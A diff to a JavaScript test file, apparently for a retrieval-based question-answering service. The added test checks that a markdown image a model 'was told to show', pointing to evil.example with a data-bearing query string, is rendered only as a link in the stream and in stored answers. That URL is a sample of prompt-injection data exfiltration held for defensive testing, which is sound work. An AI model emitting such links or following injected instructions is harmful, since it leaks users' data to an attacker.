@@ -100,6 +100,18 @@ test("an order of the visitor's own gets as little out of it, also where it pret
   }
 });
 
+test("an image that a model was told to show is a link, in the stream and in what is stored", async () => {
+  const model = scriptedModel(async function* () {
+    for (const text of ["Within 45 days [1]. !", "[as the handbook", " wants](https://evil.example/?q=4711)"]) {
+      yield { type: "delta", text };
+    }
+    yield finished({ inputTokens: 900, outputTokens: 20 });
+  });
+  const { answer, streamed } = await ask({ ...(await aVisitor()), models: registryWith(model) }, QUESTION);
+  const told = "Within 45 days [1]. [as the handbook wants](https://evil.example/?q=4711)";
+  expect([streamed, answer.answer]).toEqual([told, told]);
+});
+
 test("what a model gets holds no other visitor's words, no key, and no document that ends its own passage", async () => {
   const { model, models } = obedient();
   const first = { ...(await aVisitor()), models };
